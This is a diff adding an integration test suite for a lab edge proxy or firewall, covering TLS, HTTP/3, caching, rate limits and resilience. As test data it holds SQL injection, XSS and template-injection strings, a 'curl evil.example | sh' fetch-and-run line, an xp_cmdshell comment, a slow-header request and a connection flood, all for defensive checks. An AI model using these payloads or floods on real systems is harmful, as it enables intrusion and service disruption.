@@ -1,0 +1,258 @@
+import { connect as connectTcp } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { connect as connectTls, type SecureVersion } from 'node:tls';
+import anyTest, { type TestFn } from 'ava';
+import { execa } from 'execa';
+import { attacks } from '../../roles/edge/attacks/attacks.ts';
+import { sendAttacks } from '../../roles/edge/attacks/send-attack.ts';
+import { findHost } from '../../scripts/lab/open-lab.ts';
+import { collectStatus, isWhole } from '../../scripts/status/collect-status.ts';
+import { waitFor } from '../../scripts/waiting/wait.ts';
+import { runLab } from '../cluster/support/command.ts';
+import { type TestLab, useLab } from '../cluster/support/lab.ts';
+import { type EdgePlace, findEdge, send, sendMany } from './support/edge-client.ts';
+
+interface Author {
+  token: string;
+  slug: string;
+}
+
+const test = anyTest.serial as TestFn<{ lab: TestLab; place: EdgePlace; author: Author; slow: Promise<string> }>;
+const marks = Date.now().toString(36);
+
+test.before('the profile edge beside the lab, and an author with an article', async (t) => {
+  t.timeout(600_000);
+  await (await useLab()).waitUntilWhole();
+  const added = await runLab(['add', 'edge']);
+  t.is(added.exitCode, 0, `${added.stdout}${added.stderr}`);
+  const [lab, place] = [await useLab(), await findEdge()];
+  const json = {
+    user: { username: `edge.${marks}`, email: `edge-${marks}@example.com`, password: "it's; -- <secret>" },
+  };
+  const { body } = await send(place, '/api/users', { method: 'POST', json });
+  const author = { token: body.user.token, slug: '' };
+  t.context = { lab, place, author, slow: sendSlowly(place) };
+});
+
+test.after.always(async () => {
+  await runLab(['remove', 'edge']);
+});
+
+// Half of a head, and nothing more: gives what comes until the connection is ended.
+function sendSlowly({ address, port, ca }: EdgePlace) {
+  return new Promise<string>((resolve) => {
+    const socket = connectTls({ host: address, port, ca, servername: 'localhost' });
+    let answer = '';
+    socket.on('data', (text) => {
+      answer += text;
+    });
+    socket.once('secureConnect', () => socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-A: '));
+    socket.once('error', () => undefined).once('close', () => resolve(answer));
+  });
+}
+
+test('the lab is whole with it, and each host says what it does', async (t) => {
+  const { stdout } = await runLab(['status']);
+  t.regex(stdout, /^edge +Edge +https:\/\/127\.0\.0\.1:\d+ +2 of 2 cdn hosts routed +3\./m);
+  t.regex(stdout, /^cdn-2 +nginx +http:\/\/127\.0\.0\.1:\d+ +answers, routed +1\./m);
+  t.true(isWhole(await collectStatus((await useLab()).lab)));
+});
+
+test('articles about SQL, shells and HTML pass, and so do names with a dot and passwords of any kind', async (t) => {
+  const { place, author } = t.context;
+  const article = {
+    title: `Why ' OR 1=1 -- works ${marks}`,
+    description: "<script>alert('x')</script> and UNION SELECT password FROM users",
+    body: 'cat /etc/passwd; $(curl evil.example | sh) {{7*7}} <img src=x onerror=alert(1)> DROP TABLE users;',
+    tagList: ["x' or '1'='1", '<svg/onload=alert(1)>'],
+  };
+  const made = await send(place, '/api/articles', { method: 'POST', token: author.token, json: { article } });
+  t.is(made.status, 200, made.text);
+  t.is(made.body.article.body, article.body);
+  author.slug = made.body.article.slug;
+  const path = `/api/articles/${author.slug}/comments`;
+  const json = { comment: { body: "'; exec xp_cmdshell('dir'); -- <iframe src=javascript:alert(1)>" } };
+  t.is((await send(place, path, { method: 'POST', token: author.token, json })).status, 200);
+  t.is((await send(place, `/api/profiles/edge.${marks}`)).status, 200);
+  const user = { bio: "Robert'); DROP TABLE students;--", image: 'http://192.0.2.1/a.png' };
+  t.is((await send(place, '/api/user', { method: 'PUT', token: author.token, json: { user } })).status, 200);
+});
+
+test('what attackers send is blocked, in the shape of the API’s errors and with the id of the request', async (t) => {
+  const { place } = t.context;
+  const refused = await send(place, '/api/articles?tag=x%27%20or%201=1--', { headers: { 'X-Request-Id': 'mine-1' } });
+  t.is(refused.status, 403);
+  t.is(refused.body.errors.status_code, 403);
+  t.is(refused.headers['x-request-id'], 'mine-1');
+  const outcomes = await sendAttacks(attacks, { ...place, authority: place.ca });
+  const missed = outcomes.filter(({ blocked }) => !blocked).map(({ attack: { kind, name } }) => `${kind}: ${name}`);
+  t.deepEqual(
+    missed.filter((name) => /^(SQL|protocol)/.test(name)),
+    [],
+  );
+  t.true(missed.length * 4 < attacks.length, missed.join('\n'));
+});
+
+const versions: [SecureVersion, boolean][] = [
+  ['TLSv1.1', false],
+  ['TLSv1.2', true],
+  ['TLSv1.3', true],
+];
+for (const [version, isSpoken] of versions) {
+  test(`${version} is ${isSpoken ? '' : 'not '}spoken`, async (t) => {
+    const { address, port, ca } = t.context.place;
+    const spoken = await new Promise((resolve) => {
+      const limits = { minVersion: version, maxVersion: version, ciphers: 'DEFAULT@SECLEVEL=0' };
+      const socket = connectTls({ host: address, port, ca, servername: 'localhost', ...limits });
+      socket.once('secureConnect', () => resolve(socket.getProtocol())).once('error', () => resolve(false));
+      socket.once('secureConnect', () => socket.end());
+    });
+    t.is(spoken, isSpoken && version);
+  });
+}
+
+test('pages come as files, over HTTP/1.1, HTTP/2 and, where curl speaks it, HTTP/3', async (t) => {
+  const { place } = t.context;
+  const page = await send(place, '/', { headers: { Accept: 'text/html' } });
+  t.regex(page.text, /<div id="root">|<script type="module"/);
+  t.regex(String(page.headers['content-security-policy']), /script-src 'self'/);
+  const asset = /\/assets\/[\w-]+\.js/.exec(page.text)?.[0] ?? '';
+  t.regex(String((await send(place, asset)).headers['cache-control']), /immutable/);
+  const [answer] = await sendMany(place, '/api/tags', { count: 1, from: '127.0.0.1' });
+  t.is(answer?.[':status'], 200);
+  const { stdout } = await execa('curl', ['--version'], { reject: false });
+  if (!/\bHTTP3\b/.test(stdout ?? '')) return t.log('this curl does not speak HTTP/3');
+  const args = ['--insecure', '--silent', '--http3-only', '--write-out', '%{http_version}', '--output', '/dev/null'];
+  t.is((await execa('curl', [...args, `https://localhost:${place.port}/`])).stdout, '3');
+});
+
+test('plain HTTP leads to TLS, and a browser is told to stay there', async (t) => {
+  const { place } = t.context;
+  const answer = await fetch(`http://127.0.0.1:${place.http}/article/x?y=1`, { redirect: 'manual' });
+  t.is(answer.status, 308);
+  t.is(answer.headers.get('location'), `https://127.0.0.1:${place.port}/article/x?y=1`);
+  const { headers } = await send(place, '/api/tags');
+  t.is(headers['strict-transport-security'], 'max-age=31536000');
+  const local = await send(place, '/api/tags', { headers: { Host: `localhost:${place.port}` } });
+  t.is(local.headers['strict-transport-security'], undefined);
+});
+
+test('an anonymous reader is at most a second behind, and a user not at all', async (t) => {
+  const { place, author } = t.context;
+  const path = `/api/articles/${author.slug}`;
+  const statuses: unknown[] = [];
+  for (let round = 0; round < 6; round += 1) {
+    await send(place, path);
+    const description = `round ${round}`;
+    const { token } = author;
+    t.is((await send(place, path, { method: 'PUT', token, json: { article: { description } } })).status, 200);
+    t.is((await send(place, path, { token })).body.article.description, description);
+    const changedMs = performance.now();
+    while (performance.now() - changedMs < 1_000) {
+      statuses.push((await send(place, path)).headers['cache-status']);
+      await sleep(150);
+    }
+    t.is((await send(place, path)).body.article.description, description);
+  }
+  t.true(statuses.some((status) => /^cdn-\d; hit$/.test(String(status))));
+});
+
+test('who a client is, is what the edge sees, whatever the client says', async (t) => {
+  const { place, lab } = t.context;
+  const forged = { 'X-Forwarded-For': '192.0.2.1', 'X-Real-IP': '192.0.2.1', Forwarded: 'for=192.0.2.1' };
+  const path = `/api/profiles/forged-${marks}`;
+  await send(place, path, { from: '127.0.0.9', headers: { ...forged, 'X-Forwarded-Hop': 'guessed' } });
+  const read = async () => {
+    const lines: string[] = [];
+    for (const name of ['cdn-1', 'cdn-2']) {
+      for await (const line of lab.lab.target.logs({ name }, { lines: 200, follow: false })) lines.push(line);
+    }
+    return lines.find((line) => line.includes(path));
+  };
+  const line = await waitFor(read, { what: 'the request in a log', timeoutMs: 10_000 });
+  t.is(JSON.parse(line).client, '127.0.0.9');
+});
+
+test('an address that asks too often is told so, and no other is', async (t) => {
+  const { place } = t.context;
+  const answers = await sendMany(place, '/.none', { count: 1_200, from: '127.0.0.8' });
+  t.is(answers[0]?.[':status'], 404);
+  const last = answers.at(-1) ?? {};
+  t.is(last[':status'], 429);
+  t.is(last['retry-after'], '10');
+  t.regex(String(last['ratelimit-policy']), /"edge-address";q=1000;w=10/);
+  t.regex(String(last.ratelimit), /"edge-address";r=0;t=10/);
+  t.is((await send(place, '/api/tags', { from: '127.0.0.9' })).status, 200);
+});
+
+test('an address holds so many connections, and a client that sends too slowly is cut off', async (t) => {
+  const { address, port } = t.context.place;
+  const open = () =>
+    new Promise<boolean>((resolve) => {
+      const socket = connectTcp({ host: address, port, localAddress: '127.0.0.7' });
+      sockets.push(socket);
+      socket.once('close', () => resolve(false)).once('error', () => resolve(false));
+      socket.once('connect', () => setTimeout(resolve, 1_000, true));
+    });
+  const sockets: ReturnType<typeof connectTcp>[] = [];
+  const kept = await Promise.all(Array.from({ length: 230 }, open));
+  for (const socket of sockets) socket.destroy();
+  t.is(kept.filter(Boolean).length, 200);
+  t.regex(await t.context.slow, /^HTTP\/1\.[01] 408 /);
+});
+
+test('no request is lost while the edge and the cdn hosts are reloaded, or one of these is killed', async (t) => {
+  const { place, lab, author } = t.context;
+  const end = new AbortController();
+  const wrong: string[] = [];
+  let answered = 0;
+  const ask = async (number: number) => {
+    while (!end.signal.aborted) {
+      const options = number % 2 ? { token: author.token } : {};
+      const answer = await send(place, `/api/articles?limit=2&n=${number}`, options).catch((error: Error) => error);
+      if ('status' in answer && answer.status === 200) answered += 1;
+      else wrong.push('status' in answer ? `${answer.status} ${answer.text}` : String(answer));
+      await sleep(20);
+    }
+  };
+  const clients = [1, 2, 3, 4].map(ask);
+  const { target } = lab.lab;
+  for (const name of ['edge', 'cdn-1', 'cdn-2', 'edge']) {
+    const before = answered;
+    await target.reload(findHost(lab.lab, name));
+    await waitFor(() => answered > before + 20, { what: 'more answers', timeoutMs: 20_000 });
+  }
+  await lab.kill('cdn-1');
+  const killedAt = answered;
+  await waitFor(() => answered > killedAt + 20, { what: 'more answers', timeoutMs: 20_000 });
+  await lab.start('cdn-1');
+  end.abort();
+  await Promise.all(clients);
+  t.deepEqual(wrong, []);
+});
+
+test('with no member left a reader gets old pages that say so, and a writer is told when to come again', async (t) => {
+  t.timeout(240_000);
+  const { place, lab, author } = t.context;
+  const paths = ['/api/articles', `/api/articles/${author.slug}`];
+  for (const path of paths) t.is((await send(place, path)).status, 200);
+  await Promise.all(['mysql-1', 'mysql-2', 'mysql-3'].map(lab.kill));
+  const writing = send(place, `/api/articles/${author.slug}/comments`, {
+    method: 'POST',
+    token: author.token,
+    json: { comment: { body: 'now' } },
+  });
+  const isOld = async (path: string) => {
+    const { status, headers } = await send(place, path);
+    t.is(status, 200);
+    return /; hit; detail=stale$/.test(String(headers['cache-status'])) && Number(headers.age) >= 1;
+  };
+  for (const path of paths) await waitFor(() => isOld(path), { what: `an old ${path}`, timeoutMs: 30_000 });
+  t.is((await send(place, '/')).status, 200);
+  const { status, headers, body } = await writing;
+  t.is(status, 503);
+  t.truthy(headers['retry-after']);
+  t.truthy(body.errors);
+  await lab.waitUntilWhole();
+  t.notRegex(String((await send(place, `${paths[0]}?limit=3`)).headers['cache-status']), /stale/);
+});
